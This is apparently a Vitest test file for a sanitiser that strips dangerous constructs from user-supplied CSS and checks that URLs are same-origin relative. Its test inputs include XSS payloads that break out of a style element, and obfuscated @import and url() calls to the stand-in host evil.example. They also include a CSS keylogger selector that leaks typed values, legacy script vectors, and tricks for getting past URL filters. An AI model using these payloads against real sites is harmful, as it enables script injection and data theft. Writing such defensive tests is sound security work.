import { describe, expect, it } from 'vitest';
import { isSameOriginRelativeUrl, sanitizeCustomCss } from './custom-css';

describe('sanitizeCustomCss', () => {
  it('keeps ordinary CSS unchanged', () => {
    const css =
      '.header > .logo { width: 120px; color: #fff; }\n' +
      '@media (max-width: 600px) { .menu a:hover { background: url(/img/bg.png) no-repeat; } }\n' +
      '.icon::before { content: "\\201C"; font-family: "Icons"; }\n' +
      '.\\31 0 { margin: 0; }';
    expect(sanitizeCustomCss(css)).toBe(css);
  });

  it('cannot close its style element', () => {
    const out = sanitizeCustomCss('a{}</style><script>alert(1)</script><style>');
    expect(out).not.toContain('<');
    expect(out).toBe('a{}\\3C /style>\\3C script>alert(1)\\3C /script>\\3C style>');
    expect(sanitizeCustomCss('</STYLE >')).not.toMatch(/<\/style/i);
  });

  it('keeps "<" inside a string meaningful through the CSS escape', () => {
    expect(sanitizeCustomCss('.a::after { content: "<" }')).toBe('.a::after { content: "\\3C " }');
  });

  it('removes @import rules in every spelling', () => {
    expect(sanitizeCustomCss('@import url(https://evil.example/x.css); a{color:red}')).toBe('  a{color:red}');
    expect(sanitizeCustomCss('@import "https://evil.example/x.css";a{}')).toBe(' a{}');
    expect(sanitizeCustomCss("@IMPORT 'x.css'")).toBe(' ');
    expect(sanitizeCustomCss('@\\69mport "https://evil.example/x.css";')).toBe(' ');
    expect(sanitizeCustomCss('@\\000069 mport "https://evil.example/x.css";')).toBe(' ');
    expect(sanitizeCustomCss('@im/**/port "https://evil.example/x.css";')).toBe(' ');
    expect(sanitizeCustomCss('@im@import x;port "https://evil.example/x.css";')).not.toMatch(/@import/i);
  });

  it('replaces remote url() by none and keeps relative ones', () => {
    expect(sanitizeCustomCss('a{background:url(https://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:url("http://evil.example/p.gif") no-repeat}')).toBe('a{background:none no-repeat}');
    expect(sanitizeCustomCss("a{background:url( '//evil.example/p.gif' )}")).toBe('a{background:none}');
    // In CSS `\\` is one backslash, which the URL parser reads as a slash.
    expect(sanitizeCustomCss('a{background:url(/\\\\evil.example/p.gif)}')).toBe('a{background:none}');
    // `\e` is an escape (U+000E), so this one is a harmless relative path.
    expect(sanitizeCustomCss('a{background:url(/\\evil.example/p.gif)}')).toBe('a{background:url(/\\evil.example/p.gif)}');
    expect(sanitizeCustomCss('a{background:url(data:image/png;base64,AAAA)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:url(img/ok.png)}')).toBe('a{background:url(img/ok.png)}');
    expect(sanitizeCustomCss('a{background:url("../ok.png")}')).toBe('a{background:url("../ok.png")}');
  });

  it('sees through escapes, comments and case in url()', () => {
    expect(sanitizeCustomCss('a{background:URL(https://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:\\75 rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:u\\rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:u/**/rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:url(ht\\74ps://evil.example/p.gif)}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:url("ht\\74ps://evil.example")}')).toBe('a{background:none}');
    expect(sanitizeCustomCss('a{background:url(\\2f\\2f evil.example/p.gif)}')).toBe('a{background:none}');
  });

  it('does not let an escaped slash and a comment assemble an escape', () => {
    const out = sanitizeCustomCss('a{background:u\\/**/72l(https://evil.example/p.gif)}');
    expect(out).not.toContain('evil.example');
  });

  it('checks every url( even when an earlier one is malformed', () => {
    const out = sanitizeCustomCss('a{background:url(a"b) url(https://evil.example/p.gif)}');
    expect(out).not.toContain('evil.example');
  });

  it('catches the CSS keylogger pattern', () => {
    const out = sanitizeCustomCss('input[value^="a"]{background-image:url("https://evil.example/?k=a")}');
    expect(out).toBe('input[value^="a"]{background-image:none}');
  });

  it('replaces image-set, image and src with remote strings', () => {
    expect(sanitizeCustomCss('a{background-image:image-set("https://evil.example/a.png" 1x)}')).toBe('a{background-image:none}');
    expect(sanitizeCustomCss('a{background-image:-webkit-image-set("//evil.example/a.png" 1x)}')).toBe(
      'a{background-image:none}',
    );
    expect(sanitizeCustomCss('a{background-image:image("https://evil.example/a.png")}')).toBe('a{background-image:none}');
    expect(sanitizeCustomCss('@font-face{src:src("https://evil.example/f.woff")}')).toBe('@font-face{src:none}');
    expect(sanitizeCustomCss('a{background-image:image-set("a.png" 1x, "b.png" 2x)}')).toBe(
      'a{background-image:image-set("a.png" 1x, "b.png" 2x)}',
    );
  });

  it('neutralises script in old engines', () => {
    expect(sanitizeCustomCss('a{width:expression(alert(1))}')).toBe('a{width:blocked(alert(1))}');
    expect(sanitizeCustomCss('a{width:exp/**/ression (alert(1))}')).toBe('a{width:blocked(alert(1))}');
    expect(sanitizeCustomCss('a{behavior:url(x.htc)}')).toBe('a{blocked:url(x.htc)}');
    expect(sanitizeCustomCss('a{-moz-binding:url(x.xml#y)}')).toBe('a{blocked:url(x.xml#y)}');
    expect(sanitizeCustomCss('a{background:javascript:alert(1)}')).toBe('a{background:blocked:alert(1)}');
    expect(sanitizeCustomCss('a{background:vbscript :x}')).toBe('a{background:blocked:x}');
  });

  it('is stable: sanitising twice changes nothing', () => {
    const inputs = [
      'a{}</style>',
      '@im@import x;port "https://evil.example/x.css";',
      'a{background:u\\/**/72l(https://evil.example/p.gif)}',
      '.a::after{content:"<\\3C"}',
      'a{background:url(a"b) url(https://evil.example/p.gif)}',
    ];
    for (const input of inputs) {
      const once = sanitizeCustomCss(input);
      expect(sanitizeCustomCss(once)).toBe(once);
    }
  });

  it('gives an empty string for no input', () => {
    expect(sanitizeCustomCss('')).toBe('');
    expect(sanitizeCustomCss(null)).toBe('');
    expect(sanitizeCustomCss(undefined)).toBe('');
  });

  it('keeps its promises on the XSS corpus when a payload is passed as CSS', async () => {
    const { readFileSync } = await import('node:fs');
    const corpus = JSON.parse(readFileSync('/work/shared/corpora/xss-payloads.json', 'utf8')) as {
      cases: { payload: string }[];
    };
    for (const { payload } of corpus.cases) {
      const out = sanitizeCustomCss(payload);
      expect(out).not.toContain('<');
      expect(out).not.toMatch(/@import|javascript\s*:|expression\s*\(|url\(\s*['"]?\s*(https?:|data:|\/\/)/i);
    }
  });
});

describe('isSameOriginRelativeUrl', () => {
  it.each(['img/a.png', '/img/a.png', '../a.png', '?v=1', '#frag', '', ' /a.png ', 'a:b/../c'.replace(':', '%3A')])(
    'allows %j',
    (url) => {
      expect(isSameOriginRelativeUrl(url)).toBe(true);
    },
  );

  it.each([
    'https://evil.example',
    'HTTP://evil.example',
    '//evil.example',
    '\\\\evil.example',
    '/\\evil.example',
    '\\/evil.example',
    '/\t/evil.example',
    ' \u0001//evil.example',
    'data:image/png;base64,AAAA',
    'javascript:alert(1)',
    'java\nscript:alert(1)',
    'blob:x',
  ])('refuses %j', (url) => {
    expect(isSameOriginRelativeUrl(url)).toBe(false);
  });
});
